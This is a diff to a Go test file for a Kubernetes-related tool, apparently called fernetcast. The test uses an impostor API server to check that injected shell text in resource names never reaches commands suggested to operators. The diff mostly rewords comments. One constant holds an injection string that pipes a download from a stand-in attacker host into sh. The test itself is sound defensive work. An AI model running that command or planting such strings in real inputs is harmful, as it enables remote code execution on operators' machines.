@@ -18,13 +18,14 @@ import (
 	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
 )
 
-// shellText must not appear in a command that an operator might paste.
+// shellText is a shell command that must not appear in a command that an operator might paste.
 const shellText = "x; curl -s http://evil.example/x | sh #"
 
-// TestCommandsAreOurOwn checks a server that poses as a remote, and puts a command into the names
-// in its responses, next to an unreadable stamp. fernetcast must not accept the response as a copy,
-// and must not show the command. A real API server can have such text only in annotations. In that
-// case, the suggested command must contain only fernetcast's own flags and names, and must work.
+// TestCommandsAreOurOwn checks a server that poses as a remote. Its responses have an unreadable
+// stamp, and a shell command in the names. fernetcast must not accept such a response as a copy,
+// and must not show the command. A real API server can return such text only in annotations. In
+// that case, the command that fernetcast suggests must contain only fernetcast's own flags and
+// names, and must work.
 func TestCommandsAreOurOwn(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
@@ -59,7 +60,7 @@ func TestCommandsAreOurOwn(t *testing.T) {
 	st, err := run.status(w.Ctx)
 	w.Must(err)
 	if detail := st.Remote("real").Detail; !strings.HasSuffix(detail, command) {
-		t.Errorf("the suggested command contains more: %s", detail)
+		t.Errorf("the detail does not end with the expected command: %s", detail)
 	}
 	w.says(1, []string{command, "different Secret"}, "status")
 	w.says(1, []string{command, "different Secret"}, "status", "-o", "json")
@@ -90,18 +91,18 @@ func TestCommandsAreOurOwn(t *testing.T) {
 	}
 }
 
-// impostor is a test server that responds in protobuf, like an API server.
+// impostor is a test server that responds in protobuf, as an API server does.
 type impostor struct {
-	// reads and writes are the responses to all reads and writes. If nil, the Secret is absent, or
-	// a write is rejected.
+	// reads and writes are the responses to all reads and writes. If reads is nil, the Secret is
+	// absent. If writes is nil, every write is rejected.
 	reads, writes *corev1.Secret
-	// first, unless nil, gets each request before the other fields apply. It reports whether it
-	// responded.
+	// first, unless nil, handles each request first. It reports whether it responded. If not, the
+	// other fields apply.
 	first func(http.ResponseWriter, *http.Request) bool
 }
 
-// impostor starts a server, and gives fernetcast a kubeconfig for it. If certificate is nil, the
-// server uses httptest's certificate.
+// impostor starts server i, and gives fernetcast a kubeconfig for it as a remote. If certificate is
+// nil, the server uses httptest's certificate.
 func (w *world) impostor(name, serverName string, certificate *tls.Certificate, i *impostor) {
 	w.Helper()
 	server := httptest.NewUnstartedServer(i)
@@ -124,7 +125,7 @@ func (w *world) impostor(name, serverName string, certificate *tls.Certificate, 
 	w.Must(testenv.WriteFile(w.Clusters, name+".yaml", kubeconfig))
 }
 
-// kubeconfigFor returns a kubeconfig for a test server. The certificate ca is DER.
+// kubeconfigFor returns a kubeconfig for a test server. ca is the CA certificate in DER format.
 func kubeconfigFor(address, serverName string, ca []byte) ([]byte, error) {
 	return clientcmd.Write(clientcmdapi.Config{
 		Clusters: map[string]*clientcmdapi.Cluster{"c": {
